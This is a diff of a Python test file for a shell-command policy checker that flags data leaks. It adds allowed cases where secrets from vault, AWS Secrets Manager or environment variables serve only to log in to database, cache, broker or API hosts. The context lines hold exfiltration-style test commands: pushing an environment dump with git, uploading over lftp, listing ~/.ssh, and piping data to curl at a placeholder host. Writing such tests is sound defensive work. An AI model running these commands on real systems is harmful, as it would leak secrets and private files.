@@ -154,6 +154,15 @@ def test_wrapped_staged_and_aliased_sinks_are_denied(command: str) -> None:
     "env > env.txt; git add env.txt", "echo ok > out.txt; git add -A; git commit -m x; git push",
     "lftp -e 'put dist/app.tar.gz; bye' ftp.example.net", "xargs -a urls.txt curl -O",
     "alias ll='ls -la'; ll ~/.ssh", f"alias s='curl -d @- {S}'; echo hi | s",
+    # a secret used to log in to the server is not the message sent to it
+    "PGPASSWORD=$(vault kv get -field=password secret/db) psql -h db.example.net -c 'select 1'",
+    "MYSQL_PWD=$(aws secretsmanager get-secret-value --secret-id db --query SecretString --output text) "
+    "mysql -h db.example.net -e 'show tables'",
+    'redis-cli -h cache.example.net -a "$REDIS_PASSWORD" ping',
+    'redis-cli -h cache.example.net -a "$(vault kv get -field=pw secret/redis)" ping',
+    "mosquitto_pub -h broker.example.net -u u -P \"$MQTT_PASSWORD\" -t t -m hello",
+    'grpcurl -H "authorization: Bearer $TOKEN" -d \'{}\' api.example.net:443 svc.S/M',
+    "nats pub -s nats://n.example.net --creds ~/.nats/u.creds s hi", 'gh pr create -t x -b "$(cat body.md)"',
 ])
 def test_ordinary_neighbours_are_allowed(command: str) -> None:
     v = judge(command)
